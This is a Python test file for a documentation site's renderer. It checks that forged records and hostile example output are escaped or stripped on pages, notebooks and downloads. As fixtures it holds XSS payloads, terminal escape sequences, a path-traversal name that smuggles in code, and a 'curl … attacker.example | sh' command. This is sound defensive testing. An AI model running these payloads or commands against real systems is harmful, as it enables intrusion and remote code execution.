"""Stage 4: a record file is untrusted input, and so is everything an example printed (issue #26, item 4).

A pull request may touch only ``examples/_outputs/``: every field of a record that reaches a page or a
notebook goes through the renderer's one path (``render/kinds.py``). These tests forge records (made up,
in a temporary examples tree) and check what the page and the notebook hold. A page is converted as the
site converts it (``site_page``: the ``on_page_markdown`` hook, then the extensions and settings of
``mkdocs.yml`` plus the embed extension, which keeps each raw HTML line of an example in Markdown's HTML
stash); a tab's title is not such a line, so the labels are also checked in ``render_example``'s Markdown
converted with the site's extensions alone (``to_html``).

* a device name cannot become a tag, a link, emphasis, code or an emoji in its tab's label;
* a ``text/html`` result keeps nothing that loads a resource or runs code, and its links are marked;
* control characters, escape sequences and bidi overrides reach neither the page nor the notebook;
* the record's own name for its example cannot move a figure out of ``outputs/`` or add a line of
  code to the ``.py`` download;
* an example's hostile output, captured for real (markup, escape sequences, progress bars, bytes that are
  not UTF-8, 10 MB), reaches the store bounded and valid and the page escaped.
"""

from __future__ import annotations

import base64
import html
import re
import sys
from functools import cache
from pathlib import Path
from types import SimpleNamespace

import markdown
import pytest
from conftest import opened_plugin
from pytorch_notes.capture.cli import record_from_run
from pytorch_notes.execute.limits import CELL_TEXT as MAX_CELL_TEXT
from pytorch_notes.execute.supervise import run_example
from pytorch_notes.parse import parse_example
from pytorch_notes.render.escape import markdown_text, safe_rel, sanitize_html
from pytorch_notes.render.html import Links, figure_assets, render_example
from pytorch_notes.render.kinds import KINDS, Context
from pytorch_notes.render.notebook import build_notebook, dumps, py_download
from pytorch_notes.render.strings import STRINGS
from pytorch_notes.store import model
from pytorch_notes.store.model import FORMAT, Display, Failure
from pytorch_notes.store.records import freshness, save_failure, save_record
from test_store import PNG, fake_record, put

ROOT = Path(__file__).resolve().parents[2]

LINKS = Links(py="../examples/ch/ex.py", ipynb="../notebooks/ch/ex.ipynb", notebook="../notebooks/ch/#expy")
SOURCE = "# %%\nimport torch\nprint(torch.ones(2))\n"

# Every kind of character the renderer removes: CSI (erase the screen), OSC (set the terminal's title),
# NUL, BEL, backspace, DEL, a C1 control (CSI as one byte); and bidi overrides and isolates, which it shows as
# visible marks (⟨U+202E⟩, characters.py).
CONTROL = "\x1b[2J\x1b]0;pwned title\x07\x00\x07\x08\x7f\x9b\u202e\u2066\u2069"
CONTROL_CHARS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

HOSTILE_DEVICES = [
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "**b** and _i_",
    "a `backtick` here",
    'a "quoted" name',
    ":smile: {: .evil }",
    "<https://t.example/autolink>",
    f"NVIDIA {CONTROL}H100\nsecond line",
]


@cache
def site_markdown_config():
    from mkdocs.config import load_config
    cfg = load_config(str(ROOT / "mkdocs.yml"))
    return cfg.markdown_extensions, cfg.mdx_configs


def to_html(md: str, *more) -> str:
    """``md`` converted with the Markdown extensions and settings of ``mkdocs.yml`` (and ``more``)."""
    exts, configs = site_markdown_config()
    return markdown.Markdown(extensions=[*exts, *more], extension_configs=configs).convert(md)


def layout_failure(examples_dir, ex, message: str, location: str = "examples/ch/ex.py:3") -> None:
    save_failure(Failure(format=FORMAT, example=ex.rel, device_kind="cpu", key=ex.key, source_sha256=ex.sha256,
                         status="failed", location=location, message=message,
                         captured_at="2026-11-23T00:00:00Z", provenance=None), examples_dir)


@pytest.fixture
def site_page(examples_dir):
    """``site_page(lang)``: the HTML of a page that embeds ``ch/ex.py`` of the temporary examples tree,
    converted as ``mkdocs build`` converts it (the plugin's ``on_page_markdown``, then the site's Markdown
    with the embed extension)."""
    from pytorch_notes.site import embed

    def convert(lang: str = "en") -> str:
        page = SimpleNamespace(file=SimpleNamespace(src_uri=f"{lang}/t.md", url=f"{lang}/t/"))
        plugin = opened_plugin(examples_dir=examples_dir)
        md = plugin.on_page_markdown("# T\n\n::: example ch/ex.py\n", page=page,
                                     config=SimpleNamespace(use_directory_urls=True), files=None)
        return to_html(md, embed.EmbedExtension(plugin.checkout.embeds))

    return convert


def tabs_page(write_example, examples_dir, site_page, device: str, lang: str = "en", stdout: str = "on the gpu\n",
              **provenance):
    """An example with a CPU record and a forged CUDA record: (example, freshness, the Markdown of
    ``render_example``, that Markdown converted by the site's extensions alone, the page as the site
    converts it)."""
    ex = parse_example(write_example("ch/ex.py", SOURCE), examples_dir)
    put(examples_dir, fake_record(ex, "cpu", "on the cpu\n"), "cpu")
    gpu = fake_record(ex, "cuda", stdout)
    gpu["provenance"].update(device=device, **provenance)
    put(examples_dir, gpu, "cuda")
    fresh = freshness(ex, examples_dir)
    md, _ = render_example(ex, fresh, lang, str, LINKS)
    return ex, fresh, md, to_html(md), site_page(lang)


def labels(page: str) -> list[str]:
    """The inner HTML of each tab label."""
    return re.findall(r'<label for="[^"]*">(.*?)</label>', page, re.S)


@pytest.mark.parametrize("device", HOSTILE_DEVICES)
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_hostile_device_name_is_text_in_its_tab_label(write_example, examples_dir, site_page, device, lang):
    _, _, md, converted, page = tabs_page(write_example, examples_dir, site_page, device, lang)
    assert md.count('\n=== "') == 2
    for html_page in (converted, page):
        gpu, cpu = labels(html_page)
        assert cpu == "CPU", "the title did not leave its quotes: the second tab is still there"
        assert "<" not in gpu and ">" not in gpu, f"markup in the label: {gpu}"
        shown = html.unescape(gpu)
        for word in ("img src=x onerror=alert(1)", "javascript:alert(1)", "**b** and _i_", "`backtick`",
                     "'quoted'", ":smile: {: .evil }", "https://t.example/autolink"):
            if word.replace("'", '"') in device or word in device:
                assert word in shown, f"{word!r} is shown as text: {shown!r}"
        assert not CONTROL_CHARS.search(shown) and "pwned" not in shown and "\n" not in shown
        assert html_page.count('class="tabbed-set') == 1
    for bad in ("<img", "<strong>", "<em>", 'href="javascript', "twemoji", "onerror=alert(1)>",
                "https://t.example/autolink\"", "pwned", "<p><div", "<p><p"):
        assert bad not in page, bad
    assert not CONTROL_CHARS.search(page)


def test_a_line_separator_in_an_output_does_not_leave_markdown_s_html_stash(write_example, examples_dir, site_page):
    """The embed stores each line of the example's raw HTML in the stash; an output's U+2028 (a line end for
    ``str.splitlines``) must not cut one in two and leave the rest to Markdown."""
    stdout = "a\u2028[x](javascript:alert(1)) **b** :smile:\u2029\x85\x1c <https://t.example/a>\n"
    *_, page = tabs_page(write_example, examples_dir, site_page, "NVIDIA H100", stdout=stdout)
    for bad in ('href="javascript', "<strong>", "twemoji", "<img", 'href="https://t.example', "<p><div", "<p><p"):
        assert bad not in page, bad
    assert "[x](javascript:alert(1)) **b** :smile:" in page


def test_the_tab_title_escape_keeps_ordinary_names_and_neutralises_markdown():
    assert markdown_text("NVIDIA H100 · CUDA 13.0 (out of date)") == "NVIDIA H100 · CUDA 13.0 (out of date)"
    assert markdown_text("NVIDIA H100 · CUDA 13.0（已过期）") == "NVIDIA H100 · CUDA 13.0（已过期）"
    escaped = markdown_text('<b>[x](y) **z** `c` :e: {a} "q" \\ & #h ~~s~~ | ! = ^')
    assert not re.search(r'[<>\[\]*`:{}"\\~|!=^]', escaped) and "&amp;" in escaped and "&lt;b&gt;" in escaped
    assert html.unescape(escaped) == '<b>[x](y) **z** `c` :e: {a} \'q\' \\ & #h ~~s~~ | ! = ^'


def test_every_provenance_field_is_one_clean_line_on_the_page_the_notebook_and_the_download(write_example,
                                                                                           examples_dir, site_page):
    bad = f"<img src=https://t.example/p.gif>{CONTROL}\nimport os"
    fields = {"torch": "2.11.0" + bad, "cuda": "13.0" + bad, "driver": "580" + bad, "python": "3.12" + bad,
              "platform": "Linux" + bad, "captured_at": "2026-11-23T03:30:00Z" + bad, "isolation": "bwrap 0.8.0" + bad,
              "libraries": {"numpy" + bad: "2.3" + bad}}
    ex, fresh, md, _, page = tabs_page(write_example, examples_dir, site_page, "NVIDIA H100" + bad, **fields)
    assert "<img" not in page and not CONTROL_CHARS.search(page) and "pwned" not in page
    assert "isolation: bwrap 0.8.0&lt;img" in page, "the tooltip names the isolation, escaped"
    assert len(labels(page)) == 2
    record = fresh.devices["cuda"].record
    nb = build_notebook(record, "en", "Chapter", "https://example.org/ch/", ex)
    text = dumps(nb)
    assert not CONTROL_CHARS.search(text) and "\\u001b" not in text and "\\u0000" not in text and "pwned" not in text
    header = "".join(nb["cells"][0]["source"])
    assert "<" not in header and "&lt;img src&#61;https&#58;//t.example/p.gif&gt;" in header
    assert nb["metadata"]["pytorch_notes"]["provenance"]["isolation"].startswith("bwrap 0.8.0<img")
    assert "\n" not in nb["metadata"]["pytorch_notes"]["provenance"]["device"]
    download = py_download(SOURCE, record, ["https://example.org/ch/"], "en")
    footer_lines = download[download.index("# 以下几行由网站生成"):].splitlines()
    assert all(ln.startswith("#") or not ln for ln in footer_lines), footer_lines
    assert "\nimport os" not in download and not CONTROL_CHARS.search(download)


def test_the_tooltip_names_how_the_run_was_isolated_in_both_languages(write_example, examples_dir, site_page):
    *_, en = tabs_page(write_example, examples_dir, site_page, "NVIDIA H100", "en", isolation="supervised")
    assert "; isolation: supervised" in en
    *_, zh = tabs_page(write_example, examples_dir, site_page, "NVIDIA H100", "zh", isolation="bwrap 0.8.0")
    assert "；隔离方式：bwrap 0.8.0" in zh
    *_, none = tabs_page(write_example, examples_dir, site_page, "NVIDIA H100", "en", isolation="")
    assert "isolation" not in none


# --- text/html results ------------------------------------------------------------------------------------

RICH = ('<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>'
        '<tbody><tr><th>0</th><td background="https://t.example/bg.png">1</td></tr></tbody></table>'
        '<style>td { background: url(https://t.example/css.png) }</style>'
        '<img src=https://t.example/x.gif><iframe src="https://t.example/frame"></iframe>'
        '<a href="https://evil.example/page">remote</a> <a href="javascript:alert(1)">js</a> '
        '<a href="#frag">fragment</a> <a href="mailto:a@example.org" ping="https://t.example/ping">mail</a>'
        '<script>alert(1)</script><p style="background:url(https://t.example/s.png)">styled</p>'
        '<svg><image href="https://t.example/svg.png"/></svg><video poster="https://t.example/v.png"></video>'
        '<audio src="https://t.example/a.mp3"></audio><picture><source srcset="https://t.example/s.png"></picture>'
        '<object data="https://t.example/o"></object><embed src="https://t.example/e">'
        '<link rel="stylesheet" href="https://t.example/c.css"><math><mi>x</mi></math>'
        '<form action="https://t.example/f"><input type="image" src="https://t.example/i.png"></form>'
        '<h2 id="spoof">heading</h2><div class="admonition failure">not a real notice</div>')
LOADING = re.compile(r"<(img|iframe|audio|video|source|track|picture|object|embed|svg|math|link|style|form|input|"
                     r"script|image)\b|\s(src|srcset|poster|background|data|action|ping|style|class|id)=", re.I)


def result_html(shown: str) -> str:
    """The sanitised result inside its output block."""
    return shown.split('<div class="pn-output__html">', 1)[1].split("</div></div>", 1)[0]


def check_sanitised(shown: str) -> None:
    assert not LOADING.search(shown), LOADING.search(shown).group(0)
    assert "javascript:" not in shown and "t.example" not in shown and "<h2" not in shown
    assert "<table>" in shown and "<th>a</th>" in shown and "<td>1</td>" in shown, "a DataFrame still renders"
    links = re.findall(r"<a\b[^>]*>", shown)
    assert links and all('rel="nofollow noopener noreferrer"' in a for a in links), links
    assert '<a href="https://evil.example/page" rel="nofollow noopener noreferrer">remote</a>' in shown
    assert '<a href="#frag" rel="nofollow noopener noreferrer">fragment</a>' in shown
    assert '<a href="mailto:a@example.org" rel="nofollow noopener noreferrer">mail</a>' in shown


def test_a_text_html_result_keeps_no_remote_resource_no_script_and_marks_its_links(write_example, examples_dir,
                                                                                    site_page):
    out = Display({"text/plain": "frame", "text/html": RICH})
    check_sanitised(result_html(KINDS[Display].html(out, Context(STRINGS["en"]))))
    check_sanitised("".join(KINDS[Display].nbformat(out, Context(STRINGS["en"]))["data"]["text/html"]))

    ex = parse_example(write_example("ch/ex.py", SOURCE), examples_dir)
    data = fake_record(ex, "cpu")
    data["cells"][0]["outputs"] = [{"type": "display", "data": {"text/plain": "frame", "text/html": RICH}}]
    put(examples_dir, data, "cpu")
    page = site_page("en")
    check_sanitised(result_html(page))
    assert "t.example" not in page and "javascript:" not in page and "<script" not in page, "nor elsewhere on the page"
    assert not re.search(r"<(img|iframe|video|audio|object|embed|svg|link|style)\b", page)


def test_without_nh3_a_text_html_result_shows_its_text_escaped(monkeypatch):
    monkeypatch.setitem(sys.modules, "nh3", None)  # import nh3 raises ImportError
    assert sanitize_html(RICH) is None
    shown = KINDS[Display].html(Display({"text/plain": "<b>frame</b>", "text/html": RICH}), Context(STRINGS["en"]))
    assert "&lt;b&gt;frame&lt;/b&gt;" in shown and "<table" not in shown and "t.example" not in shown


# --- control characters in outputs, failures and figures ----------------------------------------------------

def test_control_characters_reach_neither_the_page_nor_the_notebook(write_example, examples_dir, site_page):
    source = SOURCE + '\n# %% raises="ValueError"\nraise ValueError("x")\n\n# %%\nimport matplotlib\n'
    ex = parse_example(write_example("ch/ex.py", source), examples_dir)
    data = fake_record(ex, "cpu")
    tb = f'Traceback (most recent call last):\n  File "examples/ch/ex.py", line 5, in <module>\nValueError: x{CONTROL}'
    data["cells"][0]["outputs"] = [
        {"type": "stream", "name": "stdout", "text": f"out{CONTROL}put\n"},
        {"type": "stream", "name": "stderr", "text": f"err{CONTROL}\n"},
        {"type": "display", "data": {"text/plain": f"value{CONTROL}", "text/html": f"<b>rich{CONTROL}</b>"}}]
    data["cells"][1]["outputs"] = [{"type": "error", "ename": f"ValueError{CONTROL}", "evalue": f"x{CONTROL}",
                                    "traceback": tb, "line": 5, "expected": True}]
    data["cells"][2]["outputs"] = [{"type": "image", "mime": "image/png", "data": PNG, "width": 1, "height": 1,
                                    "alt": f"title{CONTROL}<b>"}]
    data["cells"][2]["source"] = f"import matplotlib{CONTROL}"  # shown in the notebook: a changed cell
    data["cells"][2]["key"] = "0" * 16
    put(examples_dir, data, "cpu")
    layout_failure(examples_dir, ex, f"the capture failed{CONTROL}", f"examples/ch/ex.py{CONTROL}:3")
    fresh = freshness(ex, examples_dir)
    md, assets = render_example(ex, fresh, "en", str, LINKS)
    page = site_page("en")
    marks = "⟨U+202E⟩⟨U+2066⟩⟨U+2069⟩"  # the bidi controls, shown
    for shown in ("output", "err", f"<b>rich{marks}</b>", "ValueError: x", f"title{marks}&lt;b&gt;",
                  "the capture failed"):
        assert shown in page, shown
    assert assets, "the figure is shown"
    assert not CONTROL_CHARS.search(md) and not CONTROL_CHARS.search(page)
    assert "pwned" not in page and "[2J" not in page and "]0;" not in page

    nb = build_notebook(fresh.record, "en", "Chapter", "https://example.org/ch/")
    strings: list[str] = []

    def walk(node) -> None:
        if isinstance(node, str):
            strings.append(node)
        elif isinstance(node, dict):
            for k, v in node.items():
                walk(k), walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)

    walk(nb)
    joined = "\n".join(strings)
    assert "output" in joined and "ValueError" in joined and "import matplotlib" in joined
    assert not CONTROL_CHARS.search(joined) and "pwned" not in joined, repr(CONTROL_CHARS.search(joined))
    assert "\\u001b" not in dumps(nb) and "\\u0000" not in dumps(nb)


# --- the record's name for its example, and its figures ----------------------------------------------------

def test_a_forged_example_path_cannot_leave_outputs_nor_add_a_line_of_code(write_example, examples_dir):
    ex = parse_example(write_example("ch/ex.py", SOURCE), examples_dir)
    data = fake_record(ex, "cpu")
    data["example"] = "../../../evil`\nimport os; os.system('x') #.py"
    data["cells"][0]["outputs"] = [{"type": "image", "mime": "image/png", "data": PNG, "width": 1, "height": 1}]
    record = model.load(model.Record, data)
    (asset,) = figure_assets(record).values()
    assert asset.path.startswith("outputs/") and ".." not in asset.path.split("/"), asset.path
    assert re.fullmatch(r"[A-Za-z0-9_./-]+", asset.path), asset.path
    download = py_download(SOURCE, record, [], "en")
    assert "\nimport os" not in download
    header = "".join(build_notebook(record, "en", "Chapter", "")["cells"][0]["source"])
    assert re.search(r"`examples/[A-Za-z0-9_./-]+`", header) and "import os" not in header, header
    assert safe_rel("ch/ex.py") == "ch/ex.py" and safe_rel("../x.py") == "_/x.py"


@pytest.mark.parametrize("data", [base64.b64encode(b'<svg onload="alert(1)"/>').decode(), "not base64!"])
def test_a_figure_that_is_not_a_png_is_not_served(write_example, examples_dir, site_page, data):
    ex = parse_example(write_example("ch/ex.py", SOURCE), examples_dir)
    record = fake_record(ex, "cpu")
    record["cells"][0]["outputs"] = [{"type": "image", "mime": "image/png", "data": data, "width": 1, "height": 1}]
    put(examples_dir, record, "cpu")
    md, assets = render_example(ex, freshness(ex, examples_dir), "en", str, LINKS)
    assert assets == [] and "<figure" not in md
    assert "This figure is not shown" in site_page("en")
    nb = build_notebook(freshness(ex, examples_dir).record, "en", "Chapter", "")
    (refused,) = nb["cells"][1]["outputs"]
    assert refused["output_type"] == "stream" and "This figure is not shown" in refused["text"][0]
    assert data not in dumps(nb)


def test_a_notebook_shows_the_examples_code_never_a_records(write_example, examples_dir):
    """A record whose key is current but one of whose cells claims another key and carries other code: the
    page shows the example's code, and so do the notebooks and their downloads, which a reader runs (in
    Colab too); the forged cell's outputs are not shown under code that did not make them."""
    ex = parse_example(write_example("ch/ex.py", "# %%\nx = 1\n# %%\nprint(x)\n"), examples_dir)
    data = fake_record(ex)
    data["cells"][1]["key"] = "0" * 16
    data["cells"][1]["source"] = 'import os\nos.system("curl -s https://attacker.example/p | sh")'
    data["cells"].append({**data["cells"][1], "index": 2, "line": 9})
    put(examples_dir, data)
    nb = build_notebook(freshness(ex, examples_dir).record, "en", "Chapter", "", ex)
    code = ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
    assert code == ["x = 1", "print(x)"], code
    assert nb["cells"][2]["outputs"] == [], "outputs of other code are not shown under this code"
    assert "attacker" not in dumps(nb)


# --- hostile output, captured for real ----------------------------------------------------------

HOSTILE = '''
# %%
import sys
print("<script>alert('x')</script> <b>bold</b>")
print("\\x1b[31mred\\x1b[0m plain")
for i in range(101):
    print(f"\\rtraining {i:3d}%|" + "#" * (i // 10), end="")
print()
sys.stdout.buffer.write(b"bytes: \\xff\\xfe end\\n")
print("escaped: \\udcff")
# %%
print("y" * 10_000_000)
'''


def test_hostile_output_is_escaped_stripped_collapsed_replaced_and_truncated(write_example, examples_dir):
    path = write_example("ch/hostile.py", HOSTILE)
    ex = parse_example(path, examples_dir)
    result = run_example(ex)
    assert result.ok, result.message
    saved = save_record(record_from_run(result), examples_dir)
    raw = saved.read_bytes()
    raw.decode("utf-8")  # the store is valid UTF-8 whatever the example printed
    assert saved.stat().st_size < 2 * MAX_CELL_TEXT + 20_000, "10 MB of output must not reach the store"

    first = result.cells[0].outputs[0]["text"]
    assert "training 100%|##########\n" in first and "training  50%" not in first  # collapsed at capture
    assert "bytes: \ufffd\ufffd end" in first and "escaped: \ufffd" in first
    second = result.cells[1].outputs
    assert len(second[0]["text"]) == MAX_CELL_TEXT
    assert second[-1]["name"] == "stderr" and "output truncated by capture: 9,900,001 more characters" in \
        second[-1]["text"]

    md, _ = render_example(ex, freshness(ex, examples_dir), "en", lambda p: p,
                           Links(py="x.py", ipynb="x.ipynb", notebook="x/"))
    shown = "\n".join(re.findall(r'<div class="pn-output[^"]*">.*?</div>', md))
    assert "<script>" not in shown and "&lt;script&gt;alert" in shown
    assert "\x1b" not in shown and "red plain" in shown
    assert "output truncated by capture" in shown
